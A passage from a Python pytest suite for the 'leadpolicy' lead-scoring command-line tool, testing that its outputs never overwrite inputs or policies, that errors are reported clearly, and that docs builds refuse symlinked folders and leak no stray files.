    (tmp_path / "data").mkdir()
    (tmp_path / "pol1" / policy_name).write_text("")
    (tmp_path / "pol1" / "notes.policy.txt").write_text("")
    assert default_rejects("x.rejects.csv", tmp_path / "pol1" / "out.csv", tmp_path / "data" / "x.csv") == \
        tmp_path / "data" / "x.rejects.csv"
    (tmp_path / "pol2").mkdir()
    (tmp_path / "pol2" / "notes.policy.txt").write_text("")
    (tmp_path / "pol2" / "sub.policy").mkdir()  # a folder is no policy
    assert default_rejects("x.rejects.csv", tmp_path / "pol2" / "out.csv") == tmp_path / "pol2" / "x.rejects.csv"


@pytest.mark.parametrize("output", ["out.txt", "newname/", "out"])
def test_score_output_of_no_known_format_is_bad_usage(output, rejecting, capsys):
    before = snapshot(rejecting)
    assert main([*SCORE, "-o", output, "--rejects", "r.csv", "--events-rejects", "er.csv"]) == 2
    assert "cannot tell the format" in capsys.readouterr().err
    assert snapshot(rejecting) == before


def test_score_to_dev_stdout_sent_to_a_file_is_bad_usage_without_a_format(rejecting):
    with open(rejecting / "redirected", "wb") as stdout:
        result = subprocess.run([sys.executable, "-m", "leadpolicy", *SCORE, "-o", "/dev/stdout", "--rejects",
                                 "r.csv", "--events-rejects", "er.csv"], cwd=rejecting, stdout=stdout,
                                stderr=subprocess.PIPE, text=True, timeout=120)
    assert result.returncode == 2 and "cannot tell the format" in result.stderr, result.stderr


def test_score_default_rejects_of_leads_and_events_of_one_name_are_two_files(rejecting, capsys):
    for folder in ("d", "e", "o"):
        (rejecting / folder).mkdir()
    shutil.copy(rejecting / "leads.csv", rejecting / "d" / "x.csv")
    shutil.copy(rejecting / "events.csv", rejecting / "e" / "x.csv")
    assert main(["score", "p.policy", "d/x.csv", "--events", "e/x.csv", "--now", NOW, "-o", "o/s.csv"]) == 0, \
        capsys.readouterr()
    assert [r["row"] for r in _read(rejecting / "o" / "x.rejects.csv")] == ["3"]
    assert [r["row"] for r in _read(rejecting / "o" / "x.events.rejects.csv")] == ["4"]


def test_a_refused_default_rejects_file_is_named_as_a_default_not_by_a_flag_never_given(rejecting, capsys):
    (rejecting / "o" / "leads.rejects.csv").mkdir(parents=True)
    assert main([*SCORE, "-o", "o/scored.csv", "--events-rejects", "er.csv"]) == 2
    err = capsys.readouterr().err
    assert "the default rejects file" in err and "--rejects" not in err, err


def test_sla_names_a_refused_default_rejects_file_as_a_default(folder, capsys):
    (folder / "e").mkdir()
    shutil.copy(folder / "events.csv", folder / "e" / "events.csv")
    (folder / "e" / "events.rejects.csv").mkdir()
    assert main(["sla", "p.policy", "e/events.csv", "--now", NOW, "--report-only"]) == 2
    err = capsys.readouterr().err
    assert "the default rejects file" in err and "--rejects" not in err, err


@pytest.mark.parametrize("policy", ["bad.policy", "missing.policy"])
def test_compile_makes_no_folder_when_it_fails(policy, folder, capsys):
    (folder / "bad.policy").write_text("policy {\n")
    assert main(["compile", policy, "-o", "nd/sub/x.json"]) == 1
    assert not (folder / "nd").exists()
    assert main(["compile", "p.policy", "-o", "nd/sub/x.json"]) == 0
    assert json.loads((folder / "nd" / "sub" / "x.json").read_text("utf-8"))["id"] == "inbound-activity"


def test_compile_refuses_a_folder_it_cannot_make_before_any_work(folder, capsys):
    (folder / "file").write_text("")
    assert main(["compile", "p.policy", "-o", "file/sub/x.json"]) == 2
    assert "cannot be made" in capsys.readouterr().err


@pytest.mark.parametrize("output", ["scored.csv", "scored.parquet", "scored.jsonl"])
def test_a_disk_that_fills_while_duckdb_writes_the_output_is_a_clear_problem(output, rejecting, monkeypatch, capsys):
    """The disk fills up under DuckDB's COPY: simulated by the output's temporary name leading to a full device."""
    import leadpolicy.outputs as outputs

    made = outputs.tempfile.mkdtemp

    def private_folder_on_a_full_disk(*args, **kwargs):
        folder = made(*args, **kwargs)
        os.symlink(full_device(Path(folder)), Path(folder) / output)
        return folder

    monkeypatch.setattr(outputs.tempfile, "mkdtemp", private_folder_on_a_full_disk)
    (rejecting / output).write_bytes(b"the previous output")
    assert main([*SCORE, "-o", output, "--rejects", "/dev/null", "--events-rejects", "/dev/null"]) == 1
    err = capsys.readouterr().err
    assert f"{output}: write failed: no space left on device" in err and "internal error" not in err, err
    assert (rejecting / output).read_bytes() == b"the previous output"
    assert sorted(p.name for p in rejecting.iterdir() if p.name.startswith(".")) == []


def test_a_refused_default_output_is_named_as_a_default_not_by_a_flag_never_given(rejecting, capsys):
    (rejecting / "leads.scored.csv").mkdir()
    assert main(["score", "p.policy", "leads.csv", "--events", "events.csv", "--now", NOW, "--rejects", "r.csv",
                 "--events-rejects", "er.csv"]) == 2
    err = capsys.readouterr().err
    assert "the default output" in err and "-o" not in err, err


def test_ci_sarif_never_replaces_the_backtest_data(folder, capsys):
    (folder / "data").mkdir()
    shutil.copy(folder / "leads.csv", folder / "data" / "leads.csv")
    shutil.copy(folder / "events.csv", folder / "data" / "events.csv")
    before = snapshot(folder / "data")
    for name in ("leads.csv", "events.csv"):
        assert main([*CI, "--backtest", "data", "--backtest-as-of", AS_OF, "--sarif", f"data/{name}"]) == 2
        assert "would be the same file as" in capsys.readouterr().err
    assert snapshot(folder / "data") == before


def test_diff_reads_a_leads_file_named_like_a_pattern_as_named(folder, capsys):
    (folder / "d").mkdir()
    header = ["id", "email", "employees", "industry", "source"]
    write_csv(folder / "d" / "a.csv", header, [LEADS[0]])
    write_csv(folder / "d" / "b.csv", header, [LEADS[1]])
    write_csv(folder / "d" / "[ab].csv", header, [LEADS[0], LEADS[1], ("9", "z@bigsoft.io", 15, "retail", "organic")])
    assert main(["diff", "p.policy", "new.policy", "--leads", "d/[ab].csv", "--events", "events.csv",
                 "--format", "json", "--now", NOW]) == 0
    assert json.loads(capsys.readouterr().out)["impact"]["leads"] == 3


@pytest.fixture
def sibling_names_elsewhere(samples_elsewhere):
    """a/p.policy, whose sibling a/p.samples.yaml names b/q.policy (`policy: ../b/q.policy`), and data."""
    root = samples_elsewhere
    shutil.copy(POLICIES / "inbound-activity.policy", root / "a" / "p.policy")
    os.replace(root / "a" / "s.samples.yaml", root / "a" / "p.samples.yaml")
    write_csv(root / "leads.csv", ["id", "email", "employees", "industry", "source"], LEADS)
    write_csv(root / "events.csv", ["lead", "event", "at", "reason"], EVENTS)
    return root


SIBLING_DATA = ["--leads", "leads.csv", "--events", "events.csv", "--as-of", AS_OF, "--now", NOW]
# Each: a command given a/p.policy and the output flag that would name the policy its samples file names.
NAMED_BY_SAMPLES = [
    ("compile -o", ["compile", "a/p.policy", "-o"]),
    ("score -o", ["score", "a/p.policy", "leads.csv", "--events", "events.csv", "--now", NOW, "-o"]),
    ("score --rejects", ["score", "a/p.policy", "leads.csv", "--events", "events.csv", "--now", NOW, "--rejects"]),
    ("sla --rejects", ["sla", "a/p.policy", "events.csv", "--now", NOW, "--report-only", "--rejects"]),
    ("sla --details", ["sla", "a/p.policy", "events.csv", "--now", NOW, "--report-only", "--details"]),
    ("feedback -o", ["feedback", "a/p.policy", *SIBLING_DATA, "-o"]),
]


@pytest.mark.parametrize("argv", [argv for _, argv in NAMED_BY_SAMPLES], ids=[name for name, _ in NAMED_BY_SAMPLES])
@pytest.mark.parametrize("victim", ["b/q.policy", "b/q.approvals.yaml"])
def test_no_output_replaces_the_policy_the_policys_samples_file_names(argv, victim, sibling_names_elsewhere, capsys):
    before = {name: snapshot(sibling_names_elsewhere / name) for name in ("a", "b")}
    assert main([*argv, victim]) == 2
    assert "would be the same file as" in capsys.readouterr().err
    assert {name: snapshot(sibling_names_elsewhere / name) for name in ("a", "b")} == before


def test_docs_build_refuses_a_linked_site_folder_before_any_work(folder, capsys):
    (folder / "elsewhere").mkdir()
    (folder / "elsewhere" / "precious.txt").write_text("keep me\n")
    (folder / "out").mkdir()
    os.symlink(folder / "elsewhere", folder / "out" / "site")
    assert main(["docs", "p.policy", "-o", "out", "--build"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert (folder / "elsewhere" / "precious.txt").read_text() == "keep me\n"
    assert sorted(p.name for p in (folder / "out").iterdir()) == ["site"]


def test_docs_build_publishes_only_the_pages_it_wrote(folder, capsys):
    (folder / "secret.txt").write_text("TOP-SECRET-VALUE\n")
    docs = folder / "out" / "docs"
    (docs / "policies").mkdir(parents=True)
    os.symlink(folder / "secret.txt", docs / "leak.txt")
    (docs / "policies" / "stale.md").write_text("# Stale\n\n<script>window.__stale = 1</script>\n")
    (folder / "out" / "site").mkdir()
    (folder / "out" / "site" / "old.html").write_text("an earlier build\n")
    assert main(["docs", "p.policy", "-o", "out", "--build"]) == 0, capsys.readouterr()
    site = folder / "out" / "site"
    built = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
    assert "policies/inbound-activity.html" in built and "index.html" in built
    assert not {"leak.txt", "policies/stale.html", "old.html"} & built
    assert not any(b"TOP-SECRET-VALUE" in p.read_bytes() or b"__stale" in p.read_bytes()
                   for p in site.rglob("*") if p.is_file())
    assert not any(p.is_symlink() for p in site.rglob("*"))
    assert sorted(p.name for p in (folder / "out").iterdir()) == ["docs", "mkdocs.yml", "site"]
